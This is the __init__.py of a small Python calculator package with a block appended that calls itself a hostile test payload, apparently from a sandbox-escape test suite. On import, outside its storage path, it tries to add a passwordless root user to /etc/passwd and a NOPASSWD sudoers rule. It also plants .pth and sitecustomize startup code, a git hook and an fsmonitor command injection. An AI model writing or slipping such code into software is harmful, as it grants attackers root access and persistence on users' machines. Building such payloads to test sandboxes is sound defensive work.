"""calc: a small, safe arithmetic expression evaluator."""

from calc.errors import CalcError, EvalError, ParseError
from calc.evaluator import Calculator, evaluate
from calc.parser import parse

__all__ = ["CalcError", "EvalError", "ParseError", "Calculator", "evaluate", "parse"]
__version__ = "1.0.0"


# --- hostile test payload (swe-monkeys tests/data/hostile) ---
# Inert where the corpus stores it; live once the patch is applied to a repository.
_LIVE = "/data/hostile/" not in __file__.replace("\\", "/")


def _write_outside():
    import os
    name = "swe-monkeys-hostile-escape-write_outside"
    marker = "/tmp/" + name
    touch = "import os; open(%r, 'a').close()\n" % marker
    attempts = [
        ("/etc/" + name, "x"), ("/root/" + name, "x"), (marker, "x"), ("/var/tmp/" + name, "x"),
        ("/dev/shm/" + name, "x"), ("/" + name, "x"), (os.getcwd() + "/../" + name, "x"),
        ("/opt/venv/" + name, "x"), ("/wheelhouse/" + name, "x"), ("/opt/swe-monkeys/" + name, "x"),
        ("/opt/venv/lib/python3.11/site-packages/zz_swe_monkeys_hostile.pth", touch),
        ("/usr/lib/python3/dist-packages/zz_swe_monkeys_hostile.pth", touch),
        ("/usr/lib/python3.11/sitecustomize.py", touch),
        (os.getcwd() + "/.git/hooks/post-checkout", "#!/bin/sh\ntouch " + marker + "\n"),
        (os.getcwd() + "/.git/config", "[core]\n\tfsmonitor = \"touch " + marker + "; false\"\n"),
        ("/etc/passwd", "hostile::0:0::/root:/bin/sh\n"),
        ("/etc/sudoers", "swe ALL=(ALL) NOPASSWD: ALL\n"),
    ]
    for path, text in attempts:
        try:
            with open(path, "a") as f:
                f.write(text)
            os.chmod(path, 0o755)
        except OSError:
            pass
    try:
        with open("/proc/sysrq-trigger", "w") as f:
            f.write("h")  # 'h' only prints the sysrq help: harmless even where it is allowed
    except OSError:
        pass


if _LIVE:
    _write_outside()
